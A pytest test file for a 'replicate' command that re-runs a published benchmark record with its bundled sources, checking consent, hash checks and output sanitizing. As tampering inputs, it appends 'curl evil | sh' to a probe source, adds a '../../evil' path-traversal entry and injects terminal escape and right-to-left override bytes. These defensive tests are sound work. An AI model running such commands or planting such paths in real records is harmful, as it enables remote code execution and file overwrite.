"""`replicate`: a record that was published in one notebook, run in another, as a user does it."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from generator.commands import replicate
from generator.errors import UsageError
from generator.records import file_format, sources
from tests.factories import measured, record, trial
from tests.notebook import SAYS, STEM, Notebook

NOTE = """title: "a note"
date: 2023-11-03
measure:
  steady: {probe: says, label: a steady thing, params: {values: "41.0,42.0,43.0"}, expect: 40..50 ns}
  command: {run: [./bench/echo.sh, "5"], pick: 'took {}', unit: ns, label: a command}
  gone: {probe: skips, label: what cannot be here}
conditions:
  apart: {prepare: [true, for, nothing]}
body: somewhere-else.md
"""


@pytest.fixture(scope="module")
def published(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A record with its sources, as a site has it."""
    notebook = Notebook(tmp_path_factory.mktemp("theirs"))
    notebook.write("experiments/somewhere-else.md", "prose {{ steady }}\n")
    notebook.write("bench/echo.sh", '#!/bin/sh\necho "took $1 ns"\n').chmod(0o755)
    notebook.probe(
        "skips", "#!/bin/sh\n# reads answer\n[ -e /no-such-thing ] || { echo not here >&2; exit 77; }\n"
    )
    notebook.note(NOTE)
    done = notebook.run("run", STEM)
    assert done.returncode == 0, done.stderr
    (found,) = (notebook.root / "assets" / STEM).glob("*.json")
    return found


@pytest.fixture
def ours(tmp_path: Path) -> Notebook:
    """Another notebook, with a probe of the same name that says something else."""
    made = Notebook(tmp_path / "ours")
    made.probe("says", SAYS.replace("[$values]", "[1, 1, 1]"))
    return made


def changed(path: Path, to: Path, **more: Any) -> str:
    to.write_text(json.dumps(json.loads(path.read_text()) | more))
    return str(to)


def test_a_record_is_run_with_its_own_sources_and_held_against_theirs(
    published: Path, ours: Notebook
) -> None:
    done = ours.run("replicate", str(published), "--yes", "--no-wait")
    assert done.returncode == 0, done.stderr
    lines = [" ".join(line.split()) for line in done.stdout.splitlines()]
    assert "./bench/echo.sh 5" in lines and "true for nothing" in lines
    assert any(line.startswith("probes/says ") and line.endswith("executable") for line in lines)
    assert any(
        line.startswith("steady@apart 42 ns 42 ns") or line.startswith("steady 42 ns 42 ns") for line in lines
    )
    assert sorted(path.name for path in ours.root.iterdir()) == [".cache", "experiments", "probes"]
    replica = ours.root / ".cache" / "replicas" / published.stem
    assert lines[-1] == str(next((replica / "results" / STEM).glob("*.json")))


def test_a_post_without_a_chart_links_its_record_with_the_sources(published: Path) -> None:
    post = (published.parents[2] / "_posts" / f"{STEM}.markdown").read_text()
    assert f'<a href="/assets/{STEM}/{published.name}" download>with its sources</a>' in post
    assert "`python -m generator replicate URL`" in post


def test_without_anybody_who_agrees_nothing_is_written(published: Path, ours: Notebook) -> None:
    before = ours.files()
    done = ours.run("replicate", str(published), "--into", "there")
    assert done.returncode == 2 and "nobody can be asked" in done.stderr
    assert "probes/says" in done.stdout
    assert ours.files() == before and not (ours.root / ".cache" / "replicas").exists()


def test_what_would_be_run_is_shown_whole(published: Path, ours: Notebook) -> None:
    done = ours.run("replicate", str(published), "--show")
    assert done.returncode == 0
    assert NOTE in done.stdout and SAYS in done.stdout and "==> bench/echo.sh <==" in done.stdout
    assert not (ours.root / ".cache" / "replicas").exists()


def test_outside_of_a_notebook_the_folder_is_named(published: Path, ours: Notebook, tmp_path: Path) -> None:
    ours.cwd = tmp_path / "elsewhere"
    ours.cwd.mkdir()
    done = ours.run("replicate", str(published), "--yes")
    assert done.returncode == 2 and "--into DIR" in done.stderr
    done = ours.run("replicate", str(published), "--yes", "--into", "new", "--only", "stedy")
    assert done.returncode == 2 and "did you mean 'steady'?" in done.stderr
    assert (ours.cwd / "new" / "bench" / "echo.sh").is_file()
    assert not (ours.cwd / ".cache").exists()


def refusal(source: str, root: Path, **options: bool) -> str:
    with pytest.raises(UsageError) as told:
        replicate.look(source, root, **options)
    assert told.value.hint
    return str(told.value)


def test_a_source_that_was_changed_on_the_way_is_refused(published: Path, ours: Notebook) -> None:
    told = json.loads(published.read_text())["sources"]
    told["probes/says"]["text"] += "curl evil | sh\n"
    made = changed(published, ours.root / "x.json", sources=told)
    assert "its source probes/says is not what its hash says" in refusal(made, ours.root)


def test_a_path_out_of_the_folder_is_refused(published: Path, ours: Notebook) -> None:
    told = json.loads(published.read_text())["sources"]
    told["../../evil"] = told["probes/says"]
    made = changed(published, ours.root / "x.json", sources=told)
    assert "no source can lie there" in refusal(made, ours.root)


def test_a_record_without_sources_says_so_and_offers_ones_own(published: Path, ours: Notebook) -> None:
    note = "measure:\n  steady: {probe: says, label: x, params: {values: 1.0}}\n"
    one = measured(trial=trial("steady", probe="says", params=(("values", "1.0"),)))
    path = ours.write("old.json", file_format.dumps(record(one, experiment=note, note=STEM)))
    said = refusal(str(path), ours.root)
    assert "this record brings no sources" in said
    assert "--own runs this notebook's instead; 0 of its 1 figures are of the same" in said
    offer = replicate.look(str(path), ours.root, own=True)
    assert offer.own and offer.files["probes/says"].text == SAYS.replace("[$values]", "[1, 1, 1]")


def test_a_probe_that_is_in_neither_is_told(published: Path, ours: Notebook) -> None:
    data = json.loads(published.read_text())
    del data["sources"]
    path = ours.write("old.json", json.dumps(data))
    assert "there is no probe skips here" in refusal(str(path), ours.root, own=True)


def test_a_file_that_does_not_travel_is_ones_own_where_that_is_the_same(
    published: Path, ours: Notebook
) -> None:
    program = b"\x7fELF of both"
    files = {"bench/made": sources.of(program), "bench/lost": sources.of(b"\x7fELF of theirs")}
    text = sources.dumps(files)
    told = {"sources": json.loads(text), "sources_sha256": sources.digest(text)}
    (ours.root / "bench").mkdir()
    (ours.root / "bench" / "made").write_bytes(program)
    (ours.root / "bench" / "lost").write_bytes(b"another")
    offer = replicate.look(changed(published, ours.root / "x.json", **told), ours.root)
    assert offer.files["bench/made"].data == program and offer.files["bench/lost"].data is None
    lost = "bench/lost does not travel (a compiled program), and there is none of the same hash here"
    assert lost in offer.left_out


def test_versions_that_only_git_has_are_left_out_and_said(published: Path, ours: Notebook) -> None:
    note = NOTE.replace("conditions:", "versions: {old: v1.2}\nconditions:")
    offer = replicate.look(changed(published, ours.root / "x.json", experiment=note), ours.root)
    assert [name for name, one in offer.experiment.conditions.items() if one.revision] == []
    assert any("versions of git do not travel: old" in one for one in offer.left_out)


def test_what_a_service_is_given_of_ones_own_is_told_before(published: Path, ours: Notebook) -> None:
    service = 'services:\n  one: {run: [sh, -c, up], ready: port 80, env: {KEY: "${MY_TOKEN}"}}\nconditions:'
    note = NOTE.replace("conditions:", service)
    offer = replicate.look(changed(published, ours.root / "x.json", experiment=note), ours.root)
    assert "sh -c up (it is given your $MY_TOKEN)" in offer.commands


def test_escape_sequences_of_a_record_do_not_reach_the_terminal(published: Path, ours: Notebook) -> None:
    files = {"probes/x.c": sources.of(b"\x1b[2J evil \xe2\x80\xae"), "src/bin": sources.of(b"\xff\xfe")}
    text = sources.dumps(files)
    told = {"sources": json.loads(text), "sources_sha256": sources.digest(text), "host": "\x1b[31mred"}
    done = ours.run("replicate", changed(published, ours.root / "x.json", **told), "--show")
    assert "\x1b" not in done.stdout and "\u202e" not in done.stdout and "(no text, 2 bytes)" in done.stdout
